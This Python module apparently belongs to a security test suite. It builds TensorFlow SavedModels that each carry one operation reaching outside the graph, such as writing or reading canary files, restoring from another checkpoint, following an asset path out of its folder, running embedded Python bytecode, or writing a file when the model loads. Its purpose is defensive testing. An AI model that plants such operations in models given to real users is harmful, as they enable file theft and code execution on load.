"""Hostile SavedModels: operations that reach outside the graph, anywhere a SavedModel can hold them."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import tensorflow as tf
from attacks import SECRET, Attack, Canary

RAW: Any = tf.raw_ops


def saved(folder: Path, call: Callable[[Any], Any]) -> None:
    """A module that computes `call` of a (1, 4) tensor when called."""
    module = tf.Module()
    spec = tf.TensorSpec((1, 4), tf.float32, name="x")
    module.__call__ = tf.function(call, input_signature=[spec], autograph=False)
    tf.saved_model.save(module, str(folder), signatures=module.__call__.get_concrete_function())


def after(x: Any, *operations: Any) -> Any:
    """`x`, once the operations have run."""
    with tf.control_dependencies([each for each in operations if each is not None]):
        return tf.identity(x)


# What a call of the module does besides returning a tensor, by name; the proof is what plain TensorFlow then does.
def operations(canary: Canary) -> dict[str, tuple[Callable[[Any], Any], str]]:
    ran, secret = str(canary.ran), str(canary.secret)
    bytecode = canary.code

    def texts(x: Any, tensor: Any) -> Any:
        return {"default": x, "found": tensor}  # TF-Hub's name for the main output

    def reduced(x: Any, dataset: Any) -> Any:
        return texts(x, dataset.reduce("", lambda a, b: a + b))

    def checkpoint(x: Any) -> Any:
        parts = [f"{canary.folder}/a", f"{canary.folder}/b"]
        save = [RAW.SaveV2(prefix=part, tensor_names=["x"], shape_and_slices=[""], tensors=[x]) for part in parts[:1]]
        with tf.control_dependencies(save):
            return after(x, RAW.MergeV2Checkpoints(checkpoint_prefixes=parts[:1], destination_prefix=ran))

    def nested_dataset(x: Any) -> Any:
        graph = tf.Graph()
        with graph.as_default():
            write = tf.io.write_file(ran, "x")
            with tf.control_dependencies([write]):
                variant = tf.identity(
                    RAW.TensorDataset(components=[tf.constant([1.0])], output_shapes=[[1]]), name="ds"
                )
        found = RAW.DatasetFromGraph(graph_def=graph.as_graph_def().SerializeToString() + b"")
        del variant
        return after(x, RAW.DatasetCardinality(input_dataset=found))

    return {
        "WriteFile": (lambda x: after(x, tf.io.write_file(ran, "x")), "ran"),
        "ReadFile": (lambda x: texts(x, tf.io.read_file(secret)), "secret"),
        "MatchingFiles": (lambda x: texts(x, tf.io.matching_files(secret)), ""),
        "PrintV2": (lambda x: after(x, tf.print("x", output_stream=f"file://{ran}")), "ran"),
        "SaveV2": (lambda x: after(x, RAW.SaveV2(prefix=ran, tensor_names=["x"], shape_and_slices=[""], tensors=[x])),
            ""),
        "Save": (lambda x: after(x, RAW.Save(filename=ran, tensor_names=["x"], data=[x])), "ran"),
        "SaveSlices": (lambda x: after(x, RAW.SaveSlices(filename=ran, tensor_names=["x"], shapes_and_slices=[""],
            data=[x])), "ran"),
        "MergeV2Checkpoints": (checkpoint, ""),
        "RestoreV2": (lambda x: texts(x, RAW.RestoreV2(prefix=secret, tensor_names=["x"], shape_and_slices=[""],
            dtypes=[tf.float32])[0]), ""),
        "Restore": (lambda x: texts(x, RAW.Restore(file_pattern=secret, tensor_name="x", dt=tf.float32)), ""),
        "RestoreSlice": (lambda x: texts(x, RAW.RestoreSlice(file_pattern=secret, tensor_name="x", shape_and_slice="",
            dt=tf.float32)), ""),
        "ReaderReadV2": (lambda x: texts(x, RAW.ReaderReadV2(reader_handle=RAW.WholeFileReaderV2(),
            queue_handle=queue(secret))[1]), "secret"),
        "TextLineReaderV2": (lambda x: texts(x, RAW.ReaderReadV2(reader_handle=RAW.TextLineReaderV2(),
            queue_handle=queue(secret))[1]), "secret"),
        "TextLineDataset": (lambda x: reduced(x, tf.data.TextLineDataset(secret)), "secret"),
        "FixedLengthRecordDataset": (lambda x: reduced(x, tf.data.FixedLengthRecordDataset(secret, 1)), "secret"),
        "TFRecordDataset": (lambda x: reduced(x, tf.data.TFRecordDataset(secret)), ""),
        "SaveDataset": (lambda x: after(x, RAW.SaveDatasetV2(
            input_dataset=tf.data.Dataset.range(1)._variant_tensor, path=ran, shard_func_other_args=[],
            shard_func=sharding(), output_types=[tf.int64], output_shapes=[[]])), ""),
        "ListFiles": (lambda x: reduced(x, tf.data.Dataset.from_tensor_slices(
            tf.io.matching_files(f"{canary.folder}/*"))), ""),
        "DatasetToTFRecord": (lambda x: after(x, RAW.DatasetToTFRecord(
            input_dataset=tf.data.Dataset.from_tensors("x")._variant_tensor, filename=ran, compression_type="")),
                "ran"),
        "DatasetFromGraph": (nested_dataset, ""),
        "ImmutableConst": (lambda x: texts(x, RAW.ImmutableConst(dtype=tf.uint8, shape=[10],
            memory_region_name=secret)), ""),
        "LoadAndRemapMatrix": (lambda x: texts(x, RAW.LoadAndRemapMatrix(
            ckpt_path=secret, old_tensor_name="x", row_remapping=[0], col_remapping=[0], initializing_values=[],
            num_rows=1, num_cols=1)), ""),
        "CreateSummaryFileWriter": (lambda x: after(x, RAW.CreateSummaryFileWriter(
            writer=RAW.SummaryWriter(), logdir=ran, max_queue=1, flush_millis=1, filename_suffix="")), "ran"),
        "CreateSummaryDbWriter": (lambda x: after(x, RAW.CreateSummaryDbWriter(
            writer=RAW.SummaryWriter(), db_uri=ran, experiment_name="x", run_name="x", user_name="x")), ""),
        "DebugIdentityV2": (lambda x: RAW.DebugIdentityV2(
            input=x, tfdbg_context_id="x", op_name="x", output_slot=0, tensor_debug_mode=2,
                debug_urls=[f"file://{ran}"]), ""),
        "DebugIdentity": (lambda x: RAW.DebugIdentity(input=x, device_name="", tensor_name="x:0",
            debug_urls=[f"file://{ran}"]), ""),
        "InitializeTableFromTextFileV2": (lambda x: after(x, RAW.InitializeTableFromTextFileV2(
            table_handle=RAW.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64), filename=secret, key_index=-2,
                value_index=-1)), ""),
        "PyFunc": (lambda x: tf.numpy_function(bytecode, [x], tf.float32), ""),
        "EagerPyFunc": (lambda x: tf.py_function(bytecode, [x], tf.float32), ""),
        "RemoteCall": (lambda x: RAW.RemoteCall(target="/job:localhost/device:CPU:0", args=[x], Tout=[tf.float32],
            f=doubling())[0], ""),
        "RpcServer": (lambda x: after(x, RAW.DataServiceDatasetV2(
            dataset_id=1, processing_mode="", address="127.0.0.1:9", protocol="grpc", job_name="x", consumer_index=0,
            num_consumers=1, max_outstanding_requests=1, iteration_counter=RAW.DummyIterationCounter(),
            output_types=[tf.float32], output_shapes=[[]])), ""),
        "RegisterDataset": (lambda x: after(x, RAW.RegisterDataset(
            dataset=tf.data.Dataset.range(1)._variant_tensor, address="127.0.0.1:9", protocol="grpc",
                external_state_policy=0)), ""),
        "CollectiveReduce": (lambda x: RAW.CollectiveReduce(
            input=x, group_size=1, group_key=1, instance_key=1, merge_op="Add", final_op="Id", subdiv_offsets=[0]), ""),
        "Send": (lambda x: after(x, RAW.CollectiveBcastSend(
            input=x, group_size=2, group_key=2, instance_key=2, shape=[1, 4])), ""),
        "ConfigureDistributedTPU": (lambda x: after(x, RAW.ConfigureDistributedTPU()), ""),
        "ConfigureTPUEmbedding": (lambda x: after(x, RAW.ConfigureTPUEmbedding(config="x")), ""),
        "Abort": (lambda x: after(x, RAW.Abort(error_msg="x")), ""),
        "SqlDataset": (lambda x: reduced(x, tf.data.experimental.SqlDataset("sqlite", secret, "select 1", tf.string)),
            ""),
        "LMDBDataset": (lambda x: after(x, RAW.LMDBDataset(filenames=[secret], output_types=[tf.string, tf.string],
            output_shapes=[[], []])), ""),
        "LookupTableExport": (lambda x: after(x, RAW.GenerateVocabRemapping(
            new_vocab_file=secret, old_vocab_file=secret, new_vocab_offset=0, num_new_vocab=1)[0]), ""),
        "DecodeProtoV2": (lambda x: after(x, *RAW.DecodeProtoV2(
            bytes=tf.constant([b""]), message_type="m", field_names=[], output_types=[],
                descriptor_source=secret)[:1]), ""),
        "IteratorFromStringHandle": (lambda x: after(x, RAW.IteratorFromStringHandle(string_handle="x")), ""),
        "GetSessionTensor": (lambda x: RAW.GetSessionTensor(handle="x", dtype=tf.float32), ""),
    }  # fmt: skip


def queue(path: str) -> Any:
    made = RAW.FIFOQueueV2(component_types=[tf.string], capacity=2)
    with tf.control_dependencies([RAW.QueueEnqueueV2(handle=made, components=[path])]):
        return tf.identity(made)


def doubling() -> Any:
    return tf.function(lambda x: x * 2.0).get_concrete_function(tf.TensorSpec((1, 4)))


def sharding() -> Any:
    return tf.function(lambda x: tf.constant(0, tf.int64)).get_concrete_function(tf.TensorSpec((), tf.int64))


def on_load(folder: Path, canary: Canary) -> None:
    """A module whose resource writes a file when it is initialized: on loading, before any call."""

    from tensorflow.python.trackable.resource import CapturableResource

    class Resource(CapturableResource):
        def _create_resource(self) -> Any:
            return RAW.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

        def _initialize(self) -> None:
            tf.io.write_file(str(canary.ran) if not building else f"{canary.folder}/built", "x")

    building = True
    module = tf.Module()
    module.resource = Resource()
    building = False
    spec = tf.TensorSpec((1, 4), tf.float32, name="x")

    def call(x: Any) -> Any:
        RAW.LookupTableSizeV2(table_handle=module.resource.resource_handle)
        return x

    module.__call__ = tf.function(call, input_signature=[spec], autograph=False)
    tf.saved_model.save(module, str(folder), signatures=module.__call__.get_concrete_function())
    canary.ran.unlink(missing_ok=True)


def in_a_nested_function(folder: Path, canary: Canary) -> None:
    inner = tf.function(lambda x: after(x, tf.io.write_file(str(canary.ran), "x")), autograph=False)
    outer = tf.function(lambda x: inner(x), autograph=False)
    saved(folder, lambda x: tf.cond(tf.reduce_sum(x) >= 0.0, lambda: outer(x), lambda: x))


def of_tf1(folder: Path, canary: Canary, *, first: bool) -> None:
    """A module in the TF1 format that writes a file: in its init operation (`first`) or when called."""
    v1 = tf.compat.v1
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, (None, 4), name="x")
        write = tf.io.write_file(str(canary.ran), "x")
        y = x * 2.0 if first else after(x, write)
        builder = v1.saved_model.Builder(str(folder))
        signature = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder.add_meta_graph_and_variables(
            session, ["serve"], {"serving_default": signature}, main_op=tf.group(write) if first else None
        )
        builder.save()
    canary.ran.unlink(missing_ok=True)


def asset_elsewhere(folder: Path, canary: Canary) -> None:
    """A vocabulary that, according to the file, lies outside its folder."""
    inside = canary.folder / "words.txt"
    inside.write_text("word\n")
    module = tf.Module()
    lookup = tf.lookup
    values = lookup.TextFileInitializer(
        str(inside), tf.string, lookup.TextFileIndex.WHOLE_LINE, tf.int64, lookup.TextFileIndex.LINE_NUMBER
    )
    module.table = lookup.StaticHashTable(values, 0)
    spec = tf.TensorSpec((1, 4), tf.float32, name="x")
    call = tf.function(
        lambda x: {"default": x, "keys": module.table.export()[0]}, input_signature=[spec], autograph=False
    )
    module.__call__ = call
    tf.saved_model.save(module, str(folder), signatures=call.get_concrete_function())
    rewritten(
        folder, lambda graph: setattr(graph.asset_file_def[0], "filename", f"../../{canary.folder.name}/secret.txt")
    )


def restored_from_elsewhere(folder: Path, canary: Canary) -> None:
    """A module in the TF1 format that restores its variable from someone else's checkpoint."""
    v1 = tf.compat.v1
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, (None, 4), name="x")
        text = v1.get_variable("text", initializer=tf.constant(SECRET), use_resource=False)
        saver = v1.train.Saver([text])
        session.run(text.initializer)
        saver.save(session, str(canary.folder / "other"), write_meta_graph=False)
        session.run(text.assign("harmless"))
        signature = v1.saved_model.predict_signature_def({"x": x}, {"default": x * 2.0, "text": tf.identity(text)})
        builder = v1.saved_model.Builder(str(folder))
        builder.add_meta_graph_and_variables(session, ["serve"], {"serving_default": signature}, saver=saver)
        builder.save()

    def change(graph: Any) -> None:
        (restore,) = (node for node in graph.graph_def.node if node.op == "RestoreV2")
        elsewhere = graph.graph_def.node.add(name="elsewhere", op="Const")
        elsewhere.attr["dtype"].type = tf.string.as_datatype_enum
        elsewhere.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(str(canary.folder / "other")))
        restore.input[0] = "elsewhere"

    rewritten(folder, change)


def rewritten(folder: Path, change: Callable[[Any], None]) -> None:
    from tensorflow.core.protobuf import saved_model_pb2

    path = folder / "saved_model.pb"
    model = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    change(model.meta_graphs[0])
    path.write_bytes(model.SerializeToString())


def with_operation(folder: Path, name: str, *, in_library: bool) -> None:
    """A SavedModel with one node of the operation `name`, in its graph or in a function; otherwise it is not valid."""
    from tensorflow.core.protobuf import saved_model_pb2

    model = saved_model_pb2.SavedModel(saved_model_schema_version=1)
    graph = model.meta_graphs.add()
    graph.meta_info_def.tags.append("serve")
    nodes = graph.graph_def.library.function.add().node_def if in_library else graph.graph_def.node
    node = nodes.add()
    node.name, node.op = "x", name
    folder.mkdir(exist_ok=True)
    (folder / "saved_model.pb").write_bytes(model.SerializeToString())


def found() -> list[Attack]:
    made = []
    for name, (_, proof) in operations(Canary(Path("/tmp/never"), write=False)).items():

        def build(folder: Path, canary: Canary, name: str = name) -> None:
            saved(folder, operations(canary)[name][0])

        made.append(Attack(f"operation_{name}", "saved_model", "", build, proof))
    wholes = {
        "on_load": (on_load, "ran"),
        "in_a_nested_function": (in_a_nested_function, "ran"),
        "of_tf1_at_first": (lambda folder, canary: of_tf1(folder, canary, first=True), "ran"),
        "of_tf1_when_asked": (lambda folder, canary: of_tf1(folder, canary, first=False), "ran"),
        "asset_elsewhere": (asset_elsewhere, "secret"),
        "restored_from_elsewhere": (restored_from_elsewhere, "secret"),
    }
    return [*made, *(Attack(name, "saved_model", "", build, proof) for name, (build, proof) in wholes.items())]


ATTACKS = found()
